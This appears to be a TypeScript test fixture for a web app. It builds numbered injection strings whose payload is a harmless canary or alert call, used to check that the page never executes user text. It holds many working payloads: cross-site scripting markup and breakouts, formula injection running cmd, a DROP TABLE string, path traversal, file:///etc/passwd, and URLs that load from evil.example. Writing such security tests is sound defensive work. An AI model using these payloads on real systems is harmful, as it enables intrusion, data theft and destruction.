/**
 * Texts that run code when they are used as markup, a URL, a template or a formula. `CODE` is replaced by a call of the
 * canary.
 */
const markup = [
  '<script>CODE</script>',
  '<ScRiPt >CODE</sCrIpT >',
  '<script src="data:text/javascript,CODE"></script>',
  '<script src=//evil.example/CODE.js></script>',
  '<img src=x onerror=CODE>',
  '<img/src=x/onerror=CODE>',
  '<img src="/photos/01.svg" onload="CODE">',
  '<image src=x onerror=CODE>',
  '<svg onload=CODE>',
  '<svg/onload=CODE//',
  '<svg><script>CODE</script></svg>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:CODE"><text y=20>open</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=CODE></svg>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.CODE</script>"></iframe></foreignObject></svg>',
  '<body onload=CODE>',
  '<iframe src="javascript:parent.CODE"></iframe>',
  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
  '<object data="javascript:CODE"></object>',
  '<embed src="javascript:CODE">',
  '<details open ontoggle=CODE>open</details>',
  '<video><source onerror=CODE></video>',
  '<audio src=x onerror=CODE></audio>',
  '<input autofocus onfocus=CODE>',
  '<button popovertarget=p>open</button><p popover id=p onbeforetoggle=CODE>',
  '<textarea autofocus onfocus=CODE></textarea>',
  '<marquee onstart=CODE>open</marquee>',
  '<a href="javascript:CODE">open</a>',
  '<a href="data:text/html,<script>CODE</script>">open</a>',
  '<form action="javascript:CODE"><button>open</button></form>',
  '<button formaction="javascript:CODE" form=x>open</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:CODE">',
  '<link rel=stylesheet href="data:text/css,*{background:url(//evil.example/CODE)}">',
  '<style>*{background:url(//evil.example/CODE)}</style>',
  '<base href="//evil.example/CODE/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=CODE>',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  '<template shadowrootmode=open><img src=x onerror=CODE></template>',
  '<div onpointerenter=CODE style="position:fixed;inset:0">open</div>',
  '<x tabindex=1 autofocus onfocus=CODE>open</x>',
  '<style>@keyframes x{}</style><x style="animation-name:x" onanimationstart=CODE></x>',
  '<scr<script>ipt>CODE</scr</script>ipt>',
  '<img src=x onerror=&#x63;&#x61;&#x6e;&#x61;&#x72;&#x79;(NUMBER)>',
];

/** Prefixes that close the markup around a text. */
const breakouts = ['', '">', "'>", '--></title></textarea>', '</script></style>', ']]>', '\\"\\u003e'];

/**
 * Texts that are not markup: code, templates, formulas, URLs, queries, and Unicode that folds into something else.
 */
const plain = [
  "';CODE;//",
  '";CODE;//',
  '\\";CODE;//',
  '`;CODE;//',
  '${CODE}',
  '`${CODE}`',
  '{{CODE}}',
  "{{constructor.constructor('CODE')()}}",
  '#{CODE}',
  '<%= CODE %>',
  '[[${CODE}]]',
  '{CODE}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=CODE>"}}',
  '"}],"success":false,"error":"<img src=x onerror=CODE>"}',
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  ' javascript:CODE',
  'java\tscript:CODE',
  'javascript://%0aCODE',
  'javascript&colon;CODE',
  'vbscript:CODE',
  'data:text/html,<script>CODE</script>',
  '=HYPERLINK("javascript:CODE","open")',
  "=cmd|'/C CODE'!A0",
  "+cmd|'/C CODE'!A0",
  "-2+3+cmd|'/C CODE'!A0",
  "@SUM(1+1)*cmd|'/C CODE'!A0",
  '\t=IMPORTXML("https://evil.example/CODE","//a")',
  '\r=1+CODE',
  '\uFF1Cscript\uFF1ECODE\uFF1C/script\uFF1E',
  '\uFE64img src=x onerror=CODE\uFE65',
  '\u02C2svg onload=CODE\u02C3',
  '\u202E<img src=x onerror=CODE>\u202C',
  '\u2028CODE\u2029',
  '\uFEFF<img src=x onerror=CODE>',
  '<\u200Bimg src=x onerror=CODE>',
  '<\u0130mg src=x onerror=CODE>',
  '\uD83D<img src=x onerror=CODE>\uDE00',
  'e\u0301<img src=x onerror=CODE>\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  '\u0FDA\u1E9E\uFB03<b onclick=CODE>',
  '__proto__.CODE',
  'constructor.prototype.CODE',
  '"],[onclick=CODE],[x="',
  '(a+)+$|CODE[*?',
  "'; DROP TABLE customers; -- CODE",
  '" OR 1=1 NEAR(x) * CODE',
  '100%_CODE',
  '../../api/v1/customers/CODE',
  '..%2f..%2fCODE',
  '%2e%2e%2f%00%0d%0aCODE',
  '?status=banned&search=CODE#top',
  '//evil.example/CODE',
  'https://evil.example/\\@CODE',
  'mail@evil.example?bcc=all@evil.example&body=CODE',
  '\\\\evil.example\\CODE',
];

/** Photo URLs that must not be shown, or only as a picture. */
const photos = [
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  'java\nscript:CODE',
  '\u0001javascript:CODE',
  'vbscript:CODE',
  'data:text/html,<script>CODE</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="CODE"/>',
  'data:image/png;base64,iVBORw0KGgo=',
  'blob:https://evil.example/CODE',
  'file:///etc/passwd?CODE',
  'ftp://evil.example/CODE.png',
  'http://evil.example/CODE.png',
  '//evil.example/CODE.png',
  '\\\\evil.example\\CODE.png',
  'https://user:secret@evil.example/CODE.png',
  'https://evil.example/CODE.png" onerror="CODE',
  'https://evil.example/CODE.svg',
  '/photos/CODE" onerror="CODE',
  '/api/v1/customers?search=CODE',
  '/photos/../api/v1/customers?search=CODE',
  'x" onerror="CODE" y="',
  '#CODE',
];

export interface HostileText {
  /** The argument of the canary, which identifies the text that ran. */
  readonly number: number;
  readonly text: string;
  readonly photo: string;
}

/** The name of the function on the page that a text calls if it runs. */
export const canary = 'canary';

/** `count` different hostile texts, the same each time. Throws a RangeError when there are fewer. */
export function hostileTexts(count: number): readonly HostileText[] {
  const templates = [...plain, ...breakouts.flatMap((breakout) => markup.map((text) => breakout + text))];
  if (templates.length < count) throw new RangeError(`There are only ${templates.length} hostile texts`);
  return templates.slice(0, count).map((template, index) => ({
    number: index,
    text: filled(template, index),
    photo: filled(photos[index % photos.length] ?? '', index),
  }));
}

function filled(template: string, number: number): string {
  const call = number % 3 === 0 ? `alert(${number})` : `${canary}(${number})`;
  return template.replaceAll('CODE', call).replaceAll('NUMBER', String(number));
}
